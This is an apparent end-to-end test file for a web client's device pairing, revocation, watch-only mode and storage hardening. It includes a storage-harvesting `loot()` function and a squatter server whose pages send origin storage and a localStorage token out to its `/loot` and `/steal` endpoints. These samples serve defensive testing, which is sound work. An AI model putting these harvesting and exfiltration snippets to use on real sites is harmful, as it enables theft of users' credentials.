// Devices in the web client, on a 390×844 phone: pairing by a one-time code (the link gives the
// browser its own credential and leaves the address bar; the same code a second time is refused
// in words), the Devices screen (the list with this device marked, a new code with its QR
// code, the activity), removing a device closing its live session on another phone, which
// then says it was removed and can be paired again, a watch-only device that is not offered
// sending or answering, a browser paired by code that keeps no credential (a non-extractable
// key; nothing in its storage works against the hub, also when read by someone else's page on
// the origin), and a page and service worker that keep only the hub's own bytes when someone
// else answers on the hub's port.

import { describe, it, before, after } from 'node:test';
import assert from 'node:assert/strict';
import http from 'node:http';
import { Stack, launchBrowser, until, stopStack } from './harness.mjs';
import { looksRight, phonePage } from './look.mjs';

const STATUS = (code) => new RegExp(`^Failed to load resource: the server responded with a status of ${code} `);
const CUT = [/^Failed to load resource: (net::ERR_\w+|the server responded with a status of \d{3} )/, /^WebSocket connection to '.*' failed: /];


/**
 * Everything a script on the app's origin can read of its storage (run in the page: the app's,
 * or anyone else's served there): every string in localStorage, sessionStorage, cookies,
 * IndexedDB (values and keys, JSON looked into) and Cache Storage's URLs; the cached bodies;
 * and, for each CryptoKey found, what `exportKey` did with it.
 */
async function loot() {
  const strings = new Set();
  const keys = [];
  const walk = (v, depth) => {
    if (v === null || v === undefined || depth > 8) return;
    if (typeof v === 'string') {
      strings.add(v);
      try { walk(JSON.parse(v), depth + 1); } catch { /* not JSON */ }
      return;
    }
    if (typeof v !== 'object') return;
    if (v instanceof CryptoKey) { keys.push(v); return; }
    if (v instanceof ArrayBuffer || ArrayBuffer.isView(v)) {
      strings.add(btoa(String.fromCharCode(...new Uint8Array(v.buffer || v))));
      return;
    }
    for (const [k, x] of Object.entries(v)) { strings.add(k); walk(x, depth + 1); }
  };
  for (const st of [localStorage, sessionStorage]) {
    for (let i = 0; i < st.length; i++) { strings.add(st.key(i)); walk(st.getItem(st.key(i)), 0); }
  }
  for (const part of document.cookie.split(/[;=]/)) walk(part.trim(), 0);
  const req = (r) => new Promise((ok, fail) => { r.onsuccess = () => ok(r.result); r.onerror = () => fail(r.error); });
  for (const { name } of await indexedDB.databases()) {
    const db = await req(indexedDB.open(name));
    for (const store of db.objectStoreNames) {
      const os = db.transaction(store).objectStore(store);
      walk(await req(os.getAll()), 0);
      walk(await req(os.getAllKeys()), 0);
    }
    db.close();
  }
  const cached = [];
  for (const name of await caches.keys()) {
    const c = await caches.open(name);
    for (const r of await c.keys()) { strings.add(r.url); cached.push(await (await c.match(r)).text()); }
  }
  const exported = [];
  for (const k of keys) {
    try { await crypto.subtle.exportKey('jwk', k); exported.push('exported'); } catch (e) { exported.push(e.name); }
  }
  return { strings: [...strings], cached, keys: keys.length, exported };
}

describe('devices: pairing by code, the Devices screen, revoking, watch-only', () => {
  let stack; let browser; let ed; let sid;
  let admin; // a phone holding the machine's token (as a local tool's link gives it)
  let keyed; // a phone paired by code (it holds a key), kept for the squatter's visit

  before(async () => {
    const launching = launchBrowser(); // while the stack starts
    stack = await Stack.start({ env: (home) => ({ HOME: home, ZCODE_ACP_HUB_TERMINAL: '0', ZCODE_ACP_SERVE_IDLE_MS: '600000' }) });
    browser = await launching;
    ed = await stack.bridge();
    sid = await ed.newSession(stack.project);
    await ed.prompt(sid, 'hello from the editor');
    admin = await phonePage(browser, 'light', stack.token);
  });

  after(async () => {
    await stopStack(stack, browser);
  });

  /** Opens the Devices screen from settings on `page`. */
  async function devicesScreen(page) {
    await page.goto(`${stack.base}/settings`);
    await page.locator('#settings-devices-link').click();
    await page.locator('#device-list').waitFor();
    assert.equal(new URL(page.url()).pathname, '/devices');
  }

  /** Makes a pairing code on the admin phone's Devices screen; returns its URL. */
  async function newCode(scope = 'full') {
    await devicesScreen(admin);
    await admin.locator(`#pair-scope-${scope}`).check();
    await admin.locator('#pair-make').click();
    const url = await admin.locator('#pair-url').textContent();
    assert.match(url, /^http:\/\/127\.0\.0\.1:\d+\/#pair=[0-9A-Z]{5}-[0-9A-Z]{5}$/);
    return url;
  }

  /** A pairing code made by a local tool (the machine token); returns its URL. */
  async function toolCode(scope = 'full') {
    const c = await stack.api('/api/pairing', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ scope }) });
    return c.url;
  }

  /** A fresh phone (no credential) that opens `url`; waits for the home screen. */
  async function pairedBy(url, scheme = 'light') {
    const page = await phonePage(browser, scheme);
    await page.goto(url);
    await page.locator('#instances').waitFor();
    return page;
  }

  /**
   * Tries every string of `strings` that could be a credential (16 characters or more, no
   * spaces: every credential the hub issues is 43 characters of base64url) as a Bearer token:
   * the statuses that were not a refusal. 429 is a refusal too: the hub checks a token before
   * the address's limit, so a working one is never answered 429.
   */
  async function usable(strings) {
    const tried = [...new Set(strings)].filter((x) => typeof x === 'string' && /^\S{16,}$/.test(x));
    const worked = [];
    for (const t of tried) {
      const r = await stack.fetch('/api/instances', { headers: { Authorization: `Bearer ${t}` } });
      if (r.status !== 401 && r.status !== 429) worked.push(`${t} → ${r.status}`);
    }
    return { tried: tried.length, worked };
  }

  /** `path` fetched by the app itself in `page` (its own credential). */
  const getJson = (page, path) => page.evaluate(async (p) => (await import('/js/api.js')).getJson(p), path);

  const stored = (page) => page.evaluate(() => ({
    token: localStorage.getItem('zcode-acp.token'), device: JSON.parse(localStorage.getItem('zcode-acp.device') || 'null'),
  }));

  it('pairs a phone by a one-time code: its own credential, the code gone from the address bar, a second use refused in words', async () => {
    const url = await newCode('full');
    // The QR code of that very link is drawn in the page.
    await admin.locator('#pair-qr svg.qr path').waitFor({ state: 'attached' });
    assert.ok((await admin.locator('#pair-qr svg.qr path').getAttribute('d')).length > 500);
    await looksRight(admin, 'devices-pair-code', { fullPage: true });

    const phone = await pairedBy(url);
    assert.equal(new URL(phone.url()).hash, '', 'the code left the address bar');
    const mine = await stored(phone);
    assert.equal(mine.token, null, 'the phone keeps no token: it holds a key');
    assert.equal(mine.device.key, true);
    assert.equal(mine.device.scope, 'full');
    // The hub knows it by that credential.
    const listed = await stack.api('/api/devices');
    const row = listed.devices.find((d) => d.id === mine.device.id);
    assert.ok(row, `the new device is listed: ${JSON.stringify(listed)}`);
    assert.match(row.name, /^Chrome on /, 'named after its browser by default');
    // The admin's screen lists it (read again while open).
    await admin.locator(`#device-list li[data-device="${mine.device.id}"]`).waitFor();

    // The same code a second time: refused, said in words, no credential kept.
    const late = await phonePage(browser, 'light');
    await late.goto(url);
    await late.locator('#pair-error', { hasText: 'already used or expired' }).waitFor();
    assert.equal(new URL(late.url()).hash, '', 'the used code left the address bar too');
    assert.equal((await stored(late)).token, null);
    await looksRight(late, 'devices-pair-code-used', { console: [STATUS(401)] });
    await late.context().close();

    // On the phone itself: the Devices screen marks it, and shows the activity.
    await devicesScreen(phone);
    await phone.locator(`#device-list li[data-device="${mine.device.id}"] .this-device`).waitFor();
    assert.equal(await phone.locator(`#device-list li[data-device="${mine.device.id}"] .revoke`).count(), 0, 'no Remove for itself');
    await phone.locator('#audit-list li[data-action="pair"]').first().waitFor();
    // Its default name is changed here, on the phone itself.
    await phone.locator(`#device-list li[data-device="${mine.device.id}"] .rename`).click();
    await phone.locator('#device-rename-input').fill('My phone');
    await phone.locator('dialog.modal button', { hasText: 'Rename' }).click();
    await phone.locator('#this-device-name', { hasText: 'My phone' }).waitFor();
    assert.equal((await stack.api('/api/devices')).devices.find((d) => d.id === mine.device.id).name, 'My phone');
    await looksRight(phone, 'devices-screen', { fullPage: true });
    await phone.context().close();
  });

  it('removing a device closes its live session at once; that phone says it was removed and pairs again', async () => {
    const phone = await pairedBy(await toolCode('full'));
    const { device: me } = await stored(phone);
    await phone.goto(`${stack.base}/s/${encodeURIComponent(ed.id)}/${encodeURIComponent(sid)}?cwd=${encodeURIComponent(stack.project)}`);
    await phone.locator('#conn[data-state="open"]').waitFor();
    const refused = [];
    phone.on('response', (r) => { if (r.status() === 401) refused.push(r.url()); });

    await devicesScreen(admin);
    const row = admin.locator(`#device-list li[data-device="${me.id}"]`);
    await row.locator('.revoke').click();
    await admin.locator('dialog.modal button', { hasText: 'Remove' }).click();
    await row.waitFor({ state: 'detached' });

    // The phone's session gave way to the removed state (its socket was closed by the hub).
    await phone.locator('#pair-title', { hasText: 'This device was removed' }).waitFor();
    await phone.locator('#pair-removed').waitFor();
    assert.equal(await phone.locator('#conn').getAttribute('data-state'), 'unpaired');
    assert.equal((await stored(phone)).token, null, 'the dead credential is forgotten: nothing asks the hub with it again');
    await looksRight(phone, 'devices-removed', { console: [STATUS(401), ...CUT] });
    // Opened again: still says so, and asks the hub nothing.
    const before401 = refused.length;
    await phone.reload();
    await phone.locator('#pair-title', { hasText: 'This device was removed' }).waitFor();
    assert.equal(refused.length, before401, `no request refused after the reload: ${refused.join(', ')}`);

    // Paired again with a fresh code typed in.
    const url = await newCode('full');
    const code = new URL(url).hash.replace('#pair=', '');
    await phone.locator('#token-input').fill(code);
    await phone.locator('.pair button[type="submit"]').click();
    await phone.locator('#instances').waitFor();
    const again = await stored(phone);
    assert.ok(again.device.key && again.device.id !== me.id && !again.device.removed, JSON.stringify(again));
    await phone.context().close();
  });

  it('a watch-only device sees the session but is not offered sending, stopping or answering', async () => {
    const url = await newCode('watch');
    const watcher = await pairedBy(url, 'dark');
    assert.equal((await stored(watcher)).device.scope, 'watch');
    await watcher.goto(`${stack.base}/s/${encodeURIComponent(ed.id)}/${encodeURIComponent(sid)}?cwd=${encodeURIComponent(stack.project)}`);
    await watcher.locator('#conn[data-state="open"]').waitFor();
    await watcher.locator('#transcript .msg', { hasText: 'hello from the editor' }).first().waitFor();
    await watcher.locator('#watch-only-note').waitFor();
    assert.match(await watcher.locator('#watch-only-note').textContent(), /can only watch/);
    for (const sel of ['#prompt', '#send', '#cancel', '#rename-btn', '#delete-btn']) {
      assert.equal(await watcher.locator(sel).isVisible(), false, `${sel} is not offered`);
    }
    // A permission the agent asks for: shown, but its answers are not offered here.
    const turn = ed.prompt(sid, 'the editor asks for permission').catch(() => {});
    const card = watcher.locator('.request.permission');
    await card.waitFor();
    assert.equal(await card.locator('[data-option="allow"]').isVisible(), false, 'no Allow on a watch device');
    const said = await card.evaluate((el) => getComputedStyle(el, '::after').content);
    assert.match(said, /can only watch/);
    await looksRight(watcher, 'devices-watch-session');
    // Answered on the admin's side, so the turn ends.
    await admin.goto(`${stack.base}/s/${encodeURIComponent(ed.id)}/${encodeURIComponent(sid)}?cwd=${encodeURIComponent(stack.project)}`);
    await admin.locator('.request.permission [data-option="allow"]').click();
    await turn;
    // Its Devices screen offers no pairing and no removing.
    await devicesScreen(watcher);
    await watcher.locator('#pair-new', { hasText: 'can only watch' }).waitFor();
    await watcher.locator('#device-list li').first().waitFor();
    assert.equal(await watcher.locator('#device-list .revoke, #device-list .rename, #pair-make').count(), 0);
    await looksRight(watcher, 'devices-watch-screen', { fullPage: true });
    await watcher.context().close();
  });

  it('the page carries a strict policy, in its header and in the page itself', async () => {
    const r = await stack.fetch('/');
    const csp = r.headers.get('content-security-policy');
    for (const d of ["script-src 'self'", "object-src 'none'", "frame-ancestors 'none'", "base-uri 'none'"]) assert.ok(csp.includes(d), `${d} in ${csp}`);
    assert.ok(!csp.includes('unsafe-'), csp);
    const page = await phonePage(browser, 'light', stack.token);
    await page.goto(`${stack.base}/`);
    await page.locator('#instances').waitFor();
    const meta = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
    assert.ok(meta && meta.includes("script-src 'self'") && meta.includes("object-src 'none'"), meta);
    await page.context().close();
  });

  it('a paired browser keeps no credential: nothing in its storage works against the hub, its key does not export, and it still works after a reload', async () => {
    // A browser paired before keys (its device token in localStorage) swaps it for a key at start.
    const code = (await stack.api('/api/pairing', { method: 'POST' })).code;
    const old = await (await stack.fetch('/api/pair', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ code, name: 'old phone' }) })).json();
    assert.ok(old.token, JSON.stringify(old));
    const before = await phonePage(browser, 'light');
    await before.context().addInitScript(([id, token]) => {
      if (localStorage.getItem('zcode-acp.device')) return;
      localStorage.setItem('zcode-acp.token', token);
      localStorage.setItem('zcode-acp.device', JSON.stringify({ id, name: 'old phone', scope: 'full' }));
    }, [old.deviceId, old.token]);
    await before.goto(`${stack.base}/`);
    await before.locator('#instances').waitFor();
    await until('the old token to be swapped for a key', async () => (await stored(before)).device.key);
    assert.equal((await stored(before)).token, null, 'the old token is deleted');
    assert.equal((await stack.fetch('/api/instances', { headers: { Authorization: `Bearer ${old.token}` } })).status, 401, 'and the hub takes it no more');
    await before.reload();
    await before.locator('#instances').waitFor();
    assert.equal((await getJson(before, '/api/devices')).devices.find((d) => d.current).id, old.deviceId, 'still that device, by its key');
    await before.context().close();

    // Paired by code, it holds a key.
    keyed = await pairedBy(await toolCode('full'));
    const presented = new Set();
    keyed.context().on('request', (r) => {
      const a = r.headers().authorization;
      if (a) presented.add(a.replace(/^Bearer /, ''));
    });
    // After a reload it lists sessions and opens one through the hub's relay (a new access token
    // signed for, held in the page's memory only).
    await keyed.reload();
    await keyed.locator('#instances').waitFor();
    await keyed.goto(`${stack.base}/s/${encodeURIComponent(ed.id)}/${encodeURIComponent(sid)}?cwd=${encodeURIComponent(stack.project)}`);
    await keyed.locator('#conn[data-state="open"]').waitFor();
    await keyed.locator('#transcript .msg', { hasText: 'hello from the editor' }).first().waitFor();
    assert.ok(presented.size > 0, 'the page presented a credential');

    const got = await keyed.evaluate(loot);
    const { tried, worked } = await usable(got.strings);
    assert.ok(tried >= 2, `the device and its key's record were found: ${JSON.stringify(got.strings)}`);
    assert.deepEqual(worked, [], 'no string in the storage is a credential the hub takes');
    assert.equal(got.keys, 1, 'the device key is kept (IndexedDB)');
    assert.deepEqual(got.exported, ['InvalidAccessError'], 'and cannot be exported');
    for (const t of presented) {
      assert.ok(!got.cached.some((body) => body.includes(t)), 'no credential the page used is in Cache Storage');
    }
  });

  it('the service worker keeps and serves only the hub\'s own bytes when someone else answers on its port', async () => {
    const page = await phonePage(browser, 'light', stack.token);
    await page.goto(`${stack.base}/`);
    await page.locator('#instances').waitFor();
    await page.evaluate(() => navigator.serviceWorker.ready);
    await until('the page controlled by the worker', () => page.evaluate(() => Boolean(navigator.serviceWorker.controller)));
    const cachedPolicy = await page.evaluate(async () => {
      const keys = await caches.keys();
      const c = await caches.open(keys.find((k) => k.startsWith('zcode-acp-shell-')));
      return (await c.match('/')).headers.get('content-security-policy');
    });
    assert.ok(cachedPolicy && cachedPolicy.includes("script-src 'self'"), `the cached page keeps the policy: ${cachedPolicy}`);

    // The hub stops (its bridge first: it would start a hub of its own again); someone else
    // takes its port and answers everything with its own page.
    await ed.close();
    await stack.stopHub();
    stack.killSpawnedHub();
    let looted = null;
    const squatter = http.createServer((req, res) => {
      // Its page, opened on the origin by the phone paired by code, reads that origin's storage.
      if (req.url === '/loot') {
        let body = '';
        req.on('data', (c) => { body += c; });
        req.on('end', () => { looted = JSON.parse(body); res.writeHead(204).end(); });
        return;
      }
      if (req.url === '/api/steal') {
        res.writeHead(200, { 'Content-Type': 'text/html' });
        res.end(`<!doctype html><title>squatter</title><script>(${loot})().then((r) => fetch('/loot', { method: 'POST', body: JSON.stringify(r) }))</script>`);
        return;
      }
      res.writeHead(200, { 'Content-Type': 'text/html' });
      res.end('<!doctype html><title>squatter</title><p id="squatter">SQUATTER</p><script>fetch("/steal?t="+localStorage.getItem("zcode-acp.token"))</script>');
    });
    await new Promise((ok, fail) => { squatter.once('error', fail); squatter.listen(stack.port, '127.0.0.1', ok); });
    try {
      // Opened again: the app, from the worker's verified copy, not the squatter's page.
      await page.reload();
      await page.locator('#conn').waitFor();
      assert.equal(await page.locator('#squatter').count(), 0, 'the squatter\'s page was not served');
      // An asset missing from the cache is fetched, found not to be the hub's, refused and not kept
      // (its URL is this build's, which the browser's HTTP cache holds for good: bypassed here).
      const got = await page.evaluate(async () => {
        const keys = await caches.keys();
        const c = await caches.open(keys.find((k) => k.startsWith('zcode-acp-shell-')));
        const url = new URL(document.querySelector('link[rel="modulepreload"][href$="/js/dom.js"]').href).pathname;
        await c.delete(url);
        const resp = await fetch(url, { cache: 'reload' });
        return { status: resp.status, text: await resp.text(), kept: Boolean(await c.match(url)) };
      });
      assert.equal(got.status, 503, `the squatter's answer is refused: ${JSON.stringify(got)}`);
      assert.match(got.text, /not your hub's/);
      assert.equal(got.kept, false, 'and never cached');
      // The phone paired by code opens the squatter's page on the origin (a path the worker
      // leaves to the network): it reads all the storage, and the key does not export.
      await keyed.goto(`${stack.base}/api/steal`);
      await until('the squatter\'s page to read the storage', () => looted);
      assert.equal(looted.keys, 1);
      assert.deepEqual(looted.exported, ['InvalidAccessError']);
    } finally {
      // Every connection ended with it (a page's kept-alive one would hold `close` open).
      const closed = new Promise((ok) => squatter.close(ok));
      squatter.closeAllConnections?.();
      await closed;
    }
    await stack.startHub();
    // Nothing it read works against the hub once the hub is back.
    const { tried, worked } = await usable(looted.strings);
    assert.ok(tried >= 2, JSON.stringify(looted.strings));
    assert.deepEqual(worked, [], 'nothing the squatter read is a credential');
    await keyed.context().close();
    await page.context().close();
  });
});
